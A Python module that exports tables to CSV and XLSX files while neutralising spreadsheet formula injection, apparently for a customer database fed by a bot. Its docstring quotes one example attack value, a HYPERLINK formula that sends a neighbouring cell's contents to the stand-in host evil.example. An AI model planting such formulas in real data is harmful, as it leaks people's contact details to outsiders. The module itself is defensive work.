"""Tables out to CSV or XLSX files, with every cell safe to open in a spreadsheet.

Anyone can put text in the database: a customer registers through the bot with the name
``=HYPERLINK("http://evil.example/?x="&A2,"Bấm vào đây")``. Opened in Excel or LibreOffice
as written, such a cell is a live formula that can send the neighbouring cells (phone
numbers, e-mail addresses) to a stranger's server. So every export goes through here
(OWASP, "CSV injection"):

* CSV: a text cell beginning with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
  (or with blanks before one of the first four) gets a leading apostrophe, which
  spreadsheets read as "this is text". Plain numbers (``-5``, ``-1.250.000``) and phone
  numbers (``+84 91 234 5678``) keep their form: they cannot call a function or read a
  cell.
* XLSX: every text cell is written as text, never as a formula, and one that looks like a
  formula is marked "quote prefix", so it stays text even when someone edits it. Numbers
  and dates are written as numbers and dates.

One function, ``write_table``, writes both; ``neutralise`` is the CSV rule on its own.
"""

from __future__ import annotations

import csv
import re
from collections.abc import AsyncIterable, Sequence
from pathlib import Path
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_TRIGGERS = "=+-@"
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:[.,]\d+)*|[.,]\d+)")
# A leading "+", then only digits and the separators people write phone numbers with.
_PHONE = re.compile(r"\+\d[\d .()-]{6,24}\d")
# Characters XML 1.0 cannot hold (openpyxl refuses them): C0 controls but tab, LF and CR.
_NOT_XML = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")

SUFFIXES = (".csv", ".xlsx")


def looks_like_formula(text: str) -> bool:
    """True when a spreadsheet could take this text for a formula (or part of one)."""
    if not text:
        return False
    if text.startswith(FORMULA_STARTS):
        return not (_PLAIN_NUMBER.fullmatch(text) or _PHONE.fullmatch(text))
    stripped = text.lstrip()
    return (
        stripped != text
        and stripped[:1] in _TRIGGERS
        and not (_PLAIN_NUMBER.fullmatch(stripped) or _PHONE.fullmatch(stripped))
    )


def neutralise(value: Any) -> Any:
    """A CSV cell's value made safe: text that could be a formula gets a leading "'".

    Anything not text (numbers, dates, None) is returned as it is.
    """
    if isinstance(value, str) and looks_like_formula(value):
        return "'" + value
    return value


async def write_table(
    path: Path, columns: Sequence[str], rows: AsyncIterable[Sequence[Any]], *, sheet: str = "data"
) -> int:
    """Write a header and rows to ``path`` (.csv or .xlsx, by its suffix), streaming the
    rows so any number of them fits in memory; returns how many rows were written."""
    suffix = path.suffix.lower()
    if suffix == ".csv":
        return await _write_csv(path, columns, rows)
    if suffix == ".xlsx":
        return await _write_xlsx(path, columns, rows, sheet)
    raise ValueError(f"{path.name}: an export file must end in .csv or .xlsx")


async def _write_csv(path: Path, columns: Sequence[str], rows: AsyncIterable[Sequence[Any]]) -> int:
    count = 0
    # utf-8-sig: Excel opens Vietnamese names correctly only with the BOM.
    with path.open("w", encoding="utf-8-sig", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow([neutralise(name) for name in columns])
        async for row in rows:
            writer.writerow(["" if v is None else neutralise(v) for v in row])
            count += 1
    return count


async def _write_xlsx(
    path: Path, columns: Sequence[str], rows: AsyncIterable[Sequence[Any]], sheet_name: str
) -> int:
    from openpyxl import Workbook  # only XLSX exports pay for openpyxl

    book = Workbook(write_only=True)
    sheet = book.create_sheet(sheet_name)
    sheet.append([_xlsx_cell(sheet, name) for name in columns])
    count = 0
    async for row in rows:
        sheet.append([_xlsx_cell(sheet, value) for value in row])
        count += 1
    book.save(path)
    return count


def _xlsx_cell(sheet: Any, value: Any) -> Any:
    """Text as a text cell (openpyxl would make ``"=..."`` a formula); the rest as it is."""
    if not isinstance(value, str):
        return value
    from openpyxl.cell import WriteOnlyCell

    cell = WriteOnlyCell(sheet, value=_NOT_XML.sub("\ufffd", value))
    cell.data_type = "s"
    if looks_like_formula(value):
        cell.quotePrefix = True
    return cell
